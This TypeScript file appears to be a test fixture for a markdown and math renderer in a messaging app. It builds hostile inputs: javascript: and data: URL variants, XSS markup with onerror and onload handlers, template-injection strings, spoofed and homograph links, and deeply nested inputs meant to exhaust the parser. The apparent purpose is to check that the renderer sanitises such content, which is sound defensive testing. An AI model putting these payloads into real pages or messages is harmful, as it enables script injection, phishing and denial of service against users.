/**
 * What a message may hold that wants to be more than text: addresses that run, markup in every place where text stands, names that are no words, nesting,
 * formulas and diagrams that ask for things. A script that ran would set `pwned`.
 */

const run = 'javascript:top.pwned=1'
const addresses = [
  run,
  'JaVaScRiPt:top.pwned=1',
  'java\tscript:top.pwned=1',
  'java&#10;script:top.pwned=1',
  '\u0001javascript:top.pwned=1',
  '\u00a0javascript:top.pwned=1',
  'javascript&colon;top.pwned=1',
  '&#106;avascript:top.pwned=1',
  '&#x6A&#x61vascript:top.pwned=1',
  'javascript\\:top.pwned=1',
  'java\u200bscript:top.pwned=1',
  'javascript://evil.example/%0atop.pwned=1',
  'feed:javascript:top.pwned=1',
  'view-source:javascript:top.pwned=1',
  'vbscript:msgbox(1)',
  'livescript:top.pwned=1',
  'data:text/html,<script>top.pwned=1</script>',
  'data:text/html;base64,PHNjcmlwdD50b3AucHduZWQ9MTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="top.pwned=1"/>',
  'blob:https://evil.example/1',
  'filesystem:https://evil.example/temporary/1.html',
  'file:///etc/passwd',
  'about:blank',
  'intent://x#Intent;scheme=javascript;end',
  'ms-msdt:/id',
  '//evil.example/a',
  '/api/people/me',
  '../admin',
  '#top',
  'https://good.example@evil.example/',
  'https:evil.example',
  'https://evil.example/" onmouseover="top.pwned=1',
  "https://evil.example/' onmouseover='top.pwned=1",
  'https://evil.example/><img src=x onerror=top.pwned=1>',
  'mailto:a@b.example?body=<script>top.pwned=1</script>',
]
const linkForms: ((url: string) => string)[] = [
  (url) => `[text](${url})`,
  (url) => `[text](<${url}>)`,
  (url) => `![picture](${url})`,
  (url) => `<${url}>`,
  (url) => `[text][r]\n\n[r]: ${url}`,
  (url) => `[![picture](${url})](${url})`,
  (url) => url,
  (url) => `| [text](${url}) |\n|--|\n| ![p](${url}) |`,
]

const markup = [
  '<script>top.pwned=1</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>top.pwned=1</scr</script>ipt>',
  '<img src=x onerror=top.pwned=1>',
  '<img src="https://evil.example/i.png">',
  '<img/src="x"/onerror="top.pwned=1">',
  '<svg onload=top.pwned=1>',
  '<svg><script>top.pwned=1</script></svg>',
  '<svg><animate onbegin=top.pwned=1 attributeName=x dur=1s>',
  '<svg><use href="https://evil.example/x.svg#a"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=top.pwned=1>',
  '<iframe src="javascript:top.pwned=1"></iframe>',
  '<iframe srcdoc="<script>top.pwned=1</script>"></iframe>',
  '<object data="javascript:top.pwned=1"></object>',
  '<embed src="https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import "https://evil.example/x.css"; * { display: none }</style>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><button>Send</button></form>',
  '<button formaction="javascript:top.pwned=1">x</button>',
  '<details open ontoggle=top.pwned=1>',
  '<input autofocus onfocus=top.pwned=1>',
  '<video><source onerror=top.pwned=1></video>',
  '<body onload=top.pwned=1>',
  '<template><img src=x onerror=top.pwned=1></template>',
  '<noscript><p title="</noscript><img src=x onerror=top.pwned=1>">',
  '<a href="javascript:top.pwned=1" style="position:fixed;inset:0">x</a>',
  '<!--><img src=x onerror=top.pwned=1>-->',
  '<![CDATA[<img src=x onerror=top.pwned=1>]]>',
  '</textarea></title></code></pre><img src=x onerror=top.pwned=1>',
  '&lt;img src=x onerror=top.pwned=1&gt;',
  '&#60;script&#62;top.pwned=1&#60;/script&#62;',
  '\u2028<img src=x onerror=top.pwned=1>\u2029',
  '{{constructor.constructor("top.pwned=1")()}}',
  '${top.pwned=1}',
]
const places: ((text: string) => string)[] = [
  (text) => text,
  (text) => `**${text}** and _${text}_`,
  (text) => `\`${text}\``,
  (text) => `# ${text}`,
  (text) => `- ${text}\n  > ${text}`,
  (text) => `| ${text} |\n|--|\n| ${text} |`,
  (text) => `[${text}](https://example.org/ "${text}")`,
  (text) => `![${text}](https://evil.example/i.png "${text}")`,
  (text) => `$${text}$ and \\(\\text{${text}}\\)`,
  (text) => `\`\`\`${text.replaceAll(/\s/g, '')}\n${text}\n\`\`\``,
]

const commands = [
  '\\href{javascript:top.pwned=1}{x}',
  '\\url{javascript:top.pwned=1}',
  '\\includegraphics{https://evil.example/i.png}',
  '\\htmlClass{dialog}{x}',
  '\\htmlId{root}{x}',
  '\\htmlStyle{position:fixed;inset:0}{x}',
  '\\htmlData{x=1}{x}',
  '\\def\\a{\\a\\a}\\a',
  '\\def\\a#1{\\a{#1#1}}\\a{x}',
  '\\rule{100000em}{100000em}',
  '\\kern{-100000em}x',
  '\\textcolor{red;background:url(https://evil.example/c)}{x}',
  '\\text{<img src=x onerror=top.pwned=1>}',
  '\\unicode{x3c}script',
  `${'{'.repeat(1500)}x${'}'.repeat(1500)}`,
  `${'\\sqrt{'.repeat(300)}x${'}'.repeat(300)}`,
  `${'\\frac{1}{'.repeat(200)}x${'}'.repeat(200)}`,
]

/** Each stands for itself between others. */
export const hostileTexts: string[] = [
  ...addresses.flatMap((url) => linkForms.map((form) => form(url))),
  ...markup.flatMap((text) => places.map((place) => place(text))),
  ...commands.flatMap((tex) => [`$${tex}$`, `$$\n${tex}\n$$`]),
  ...['constructor', '__proto__', 'toString', '../../x', 'js"onload=1', 'math', 'text/html', 'a'.repeat(500)].map(
    (language) => `\`\`\`${language}\n<img src=x onerror=top.pwned=1>\n\`\`\``,
  ),
  // What is read is not where it leads.
  '[https://good.example](https://evil.example/)',
  '[https://good.example\u202ecod.exe](https://evil.example/)',
  '[pay\u200bpal.example](https://evil.example/)',
  '[\u2066https://good.example\u2069](https://evil.example/ "https://good.example")',
  '[xn--80ak6aa92e.example](https://xn--80ak6aa92e.example/)',
  'https://good.example\u2044@evil.example',
  '[a\n\n\n](https://evil.example/)',
]

/** Each stands at the end, since it swallows what follows, or is drawn as a block that is large. */
export const swallowingTexts: string[] = [
  '```\n<script>top.pwned=1</script>',
  '~~~"><img src=x onerror=top.pwned=1>\n</code></pre><img src=x onerror=top.pwned=1>',
  '$$\n<img src=x onerror=top.pwned=1>',
  '\\[\n\\href{javascript:top.pwned=1}{x',
  '[text](javascript:top.pwned=1',
  `${'> '.repeat(10_000)}<img src=x onerror=top.pwned=1>`,
  Array.from({ length: 300 }, (_, depth) => `${'  '.repeat(depth)}- <img src=x onerror=top.pwned=1>`).join('\n'),
  `${'*'.repeat(10_000)}x${'*'.repeat(10_000)}`,
  `${'*a _b '.repeat(3000)}`,
  `${'['.repeat(10_000)}x${'](javascript:top.pwned=1)'.repeat(2000)}`,
  `${'![a]('.repeat(2000)}`,
  `${'|x'.repeat(2000)}|\n${'|-'.repeat(2000)}|\n${'|<b>'.repeat(2000)}|`,
  `${'`'.repeat(5000)}<b>`,
  '\u0000\u0001\u0008\u000b\u001b[31m\ufffe\uffff\ud800<b>',
  `a${'\u0300'.repeat(5000)}`,
]

/** As messages: some dozens of cases each, one of those that swallow at the end. */
export function hostileMessages(perMessage = 40): string[] {
  const messages: string[] = []
  for (let at = 0; at < hostileTexts.length; at += perMessage) messages.push(hostileTexts.slice(at, at + perMessage).join('\n\n'))
  return [...messages.map((message, index) => `${message}\n\n${swallowingTexts[index] ?? ''}`), ...swallowingTexts.slice(messages.length)]
}
